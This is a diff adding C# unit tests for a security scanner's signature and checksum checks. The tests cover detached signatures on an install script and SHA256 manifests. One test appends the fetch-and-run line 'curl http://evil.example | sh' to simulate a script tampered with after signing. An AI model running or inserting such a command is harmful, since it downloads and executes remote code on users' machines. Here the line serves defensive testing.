@@ -1,0 +1,149 @@
+using System.Text;
+using FluentAssertions;
+using NUnit.Framework;
+using Org.BouncyCastle.Cms;
+using Org.BouncyCastle.Utilities.Collections;
+using Preflight.Configuration;
+using Preflight.Findings;
+using Preflight.Reporting;
+using static Preflight.Tests.Detectors.Certificates.TestPki;
+
+namespace Preflight.Tests.Detectors.Certificates;
+
+public class DetachedSignatureTests
+{
+    private static readonly byte[] Payload = Encoding.UTF8.GetBytes("#!/bin/sh\necho installing acme 5.0\n");
+
+    private static byte[] Sign(byte[] content, Issued signer, params Issued[] chain)
+    {
+        var gen = new CmsSignedDataGenerator();
+        gen.AddSigner(signer.Keys.Private, signer.Certificate, CmsSignedGenerator.DigestSha256);
+        gen.AddCertificates(CollectionUtilities.CreateStore(new[] { signer.Certificate }.Concat(chain.Select(static c => c.Certificate))));
+        return gen.Generate(new CmsProcessableByteArray(content), false).GetEncoded();
+    }
+
+    private static (Issued Root, Issued Ica, Issued Signer) Pki()
+    {
+        var root = Root("CN=Vendor Root");
+        var ica = Intermediate("CN=Vendor Code Signing CA", root);
+        var signer = Leaf("CN=Vendor Release Signer", ica, eku: ["1.3.6.1.5.5.7.3.3"], dns: []);
+        return (root, ica, signer);
+    }
+
+    private static async Task<ScanReport> Scan(TempDir dir, string[] trust, params (string Name, object Content)[] entries) =>
+        await PreflightScanner.ScanAsync(Zip(dir, entries), ScanOptions.Default with
+        {
+            AsOf = AsOf,
+            TrustedRoots = trust,
+            EnabledDetectors = new HashSet<string> { "certificates" },
+        });
+
+    [Test]
+    public async Task Scan_accepts_a_valid_detached_signature_from_a_trusted_signer()
+    {
+        using var dir = new TempDir();
+        var (root, ica, signer) = Pki();
+        string trust = dir.File("roots.pem", Pem(root.Certificate));
+
+        var report = await Scan(dir, [trust], ("bin/install.sh", Payload), ("bin/install.sh.p7s", Sign(Payload, signer, ica)));
+
+        report.Findings.Should().BeEmpty();
+        report.Inventory.Certificates.Select(static c => c.Subject).Should().Contain("CN=Vendor Release Signer");
+    }
+
+    [Test]
+    public async Task Scan_reports_a_file_altered_after_signing_as_critical()
+    {
+        using var dir = new TempDir();
+        var (root, ica, signer) = Pki();
+        string trust = dir.File("roots.pem", Pem(root.Certificate));
+        byte[] tampered = [.. Payload, .. "curl http://evil.example | sh\n"u8.ToArray()];
+
+        var report = await Scan(dir, [trust], ("bin/install.sh", tampered), ("bin/install.sh.p7s", Sign(Payload, signer, ica)));
+
+        var finding = report.Findings.Should().ContainSingle(f => f.RuleId == "PF616").Subject;
+        finding.Severity.Should().Be(Severity.Critical);
+        finding.Location.Path.Should().Be("bin/install.sh.p7s");
+        finding.Properties["signer"].Should().Be("CN=Vendor Release Signer");
+    }
+
+    [Test]
+    public async Task Scan_reports_an_untrusted_signer_of_a_valid_signature()
+    {
+        using var dir = new TempDir();
+        var (_, ica, signer) = Pki();
+        string trust = dir.File("other.pem", Pem(Root("CN=Someone Else").Certificate));
+
+        var report = await Scan(dir, [trust], ("bin/install.sh", Payload), ("bin/install.sh.p7s", Sign(Payload, signer, ica)));
+
+        report.Findings.Should().NotContain(f => f.RuleId == "PF616");
+        report.Findings.Should().ContainSingle(f => f.RuleId == "PF606" || f.RuleId == "PF605")
+            .Which.Location.Path.Should().Be("bin/install.sh.p7s");
+    }
+
+    [Test]
+    public async Task Scan_reports_a_signature_whose_file_is_missing()
+    {
+        using var dir = new TempDir();
+        var (root, ica, signer) = Pki();
+        string trust = dir.File("roots.pem", Pem(root.Certificate));
+
+        var report = await Scan(dir, [trust], ("bin/install.sh.p7s", Sign(Payload, signer, ica)));
+
+        report.Findings.Should().ContainSingle(f => f.RuleId == "PF617").Which.Properties["signedFile"].Should().Be("bin/install.sh");
+    }
+}
+
+public class ChecksumManifestTests
+{
+    private static string Sha(string s) => Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(Encoding.UTF8.GetBytes(s)));
+
+    [Test]
+    public async Task Scan_checks_every_file_of_a_checksum_manifest_mismatched_missing_and_unlisted()
+    {
+        using var dir = new TempDir();
+        string manifest = $"""
+            {Sha("good\n")}  bin/good.sh
+            {Sha("original\n")} *bin/changed.sh
+            SHA256 (bin/gone.sh) = {Sha("gone\n")}
+            """;
+
+        string zip = Zip(dir,
+            ("acme/SHA256SUMS", manifest + "\n"),
+            ("acme/bin/good.sh", "good\n"),
+            ("acme/bin/changed.sh", "tampered\n"),
+            ("acme/bin/extra.sh", "added later\n"),
+            ("other/readme.txt", "outside the manifest's folder\n"));
+        var report = await PreflightScanner.ScanAsync(zip, ScanOptions.Default with { AsOf = AsOf, EnabledDetectors = new HashSet<string> { "certificates" } });
+
+        report.Findings.Select(static f => (f.RuleId, f.Location.Line)).Should().BeEquivalentTo(new (string, int?)[]
+        {
+            ("PF619", 2), ("PF620", 3), ("PF621", null),
+        });
+        report.Findings.Single(static f => f.RuleId == "PF619").Severity.Should().Be(Severity.Critical);
+        report.Findings.Single(static f => f.RuleId == "PF621").Properties["files"].Should().Be("acme/bin/extra.sh");
+    }
+
+    [Test]
+    public async Task Scan_accepts_a_signed_manifest_that_matches_and_marks_it_signed_in_findings()
+    {
+        using var dir = new TempDir();
+        var root = Root("CN=Root");
+        var signer = Leaf("CN=Signer", root, eku: ["1.3.6.1.5.5.7.3.3"], dns: []);
+        string manifest = $"{Sha("a\n")}  a.txt\n{Sha("b\n")}  b.txt\n";
+        var gen = new CmsSignedDataGenerator();
+        gen.AddSigner(signer.Keys.Private, signer.Certificate, CmsSignedGenerator.DigestSha256);
+        gen.AddCertificates(CollectionUtilities.CreateStore(new[] { signer.Certificate }));
+        byte[] sig = gen.Generate(new CmsProcessableByteArray(Encoding.UTF8.GetBytes(manifest)), false).GetEncoded();
+        string trust = dir.File("roots.pem", Pem(root.Certificate));
+
+        string zip = Zip(dir, ("SHA256SUMS", manifest), ("SHA256SUMS.p7s", sig), ("a.txt", "a\n"), ("b.txt", "B\n"));
+        var report = await PreflightScanner.ScanAsync(zip, ScanOptions.Default with { AsOf = AsOf, TrustedRoots = [trust], EnabledDetectors = new HashSet<string> { "certificates" } });
+
+        var finding = report.Findings.Should().ContainSingle().Subject;
+        finding.RuleId.Should().Be("PF619");
+        finding.Properties["file"].Should().Be("b.txt");
+        finding.Properties["signedManifest"].Should().Be("true");
+        finding.Message.Should().Contain("signed manifest");
+    }
+}
